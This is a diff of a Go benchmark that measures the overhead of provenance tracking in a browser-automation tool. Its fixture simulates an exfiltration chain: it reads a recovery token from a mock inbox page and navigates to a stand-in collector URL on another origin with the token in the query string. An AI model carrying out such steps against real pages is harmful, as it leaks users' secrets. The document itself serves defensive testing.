@@ -7,6 +7,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/chromegate/chromegate/internal/testkit"
 )
@@ -75,4 +76,50 @@ func TestFlowLabels(t *testing.T) {
 			}
 		})
 	}
+}
+
+// BenchmarkFlowChromium is the cost per call of provenance tracking on a
+// real browser: two servers in one run, --flow=on and --flow=off, take
+// turns at the same cycle (navigate to a page that shows a token, read it,
+// eval, navigate to another origin with the token in the URL, under the
+// default policy), and each reports its median per call.
+func BenchmarkFlowChromium(b *testing.B) {
+	needBrowser(b)
+	const token = "QX7PLUMorbit4431zeta"
+	mux := http.NewServeMux()
+	mux.HandleFunc("/mail", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `<!doctype html><title>Inbox</title><main><h1>Inbox</h1><p>Your recovery token is %s.</p><p>%s</p></main>`, token, strings.Repeat("Quarterly numbers, meeting notes and invoices. ", 80))
+	})
+	mux.HandleFunc("/collect", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, `<!doctype html><title>Collect</title><p>thanks</p>`)
+	})
+	_, port, _ := strings.Cut(strings.TrimPrefix(testkit.Serve(b, mux), "http://"), ":")
+	servers := map[string]*server{}
+	took := map[string][]time.Duration{}
+	for _, mode := range []string{"on", "off"} {
+		servers[mode] = startServer(b, resolverRules, "--allow-domain=allowed.test", "--allow-domain=other.test",
+			"--unsafe-enable-eval", "--flow="+mode)
+	}
+	cycle := []struct {
+		tool string
+		args map[string]any
+	}{
+		{"navigate", map[string]any{"url": "http://allowed.test:" + port + "/mail"}},
+		{"get_text", map[string]any{}},
+		{"eval", map[string]any{"expression": "document.title + ' " + token + "'"}},
+		{"navigate", map[string]any{"url": "http://other.test:" + port + "/collect?q=" + token}},
+	}
+	for b.Loop() {
+		for _, mode := range []string{"on", "off"} {
+			for _, c := range cycle {
+				t0 := time.Now()
+				servers[mode].call(c.tool, c.args)
+				took[mode] = append(took[mode], time.Since(t0))
+			}
+		}
+	}
+	on, off := median(took["on"]), median(took["off"])
+	b.ReportMetric(float64(on.Microseconds()), "on-median-µs/call")
+	b.ReportMetric(float64(off.Microseconds()), "off-median-µs/call")
+	fmt.Fprintf(os.Stderr, "provenance on Chromium: median per call %v on, %v off\n", on, off)
 }
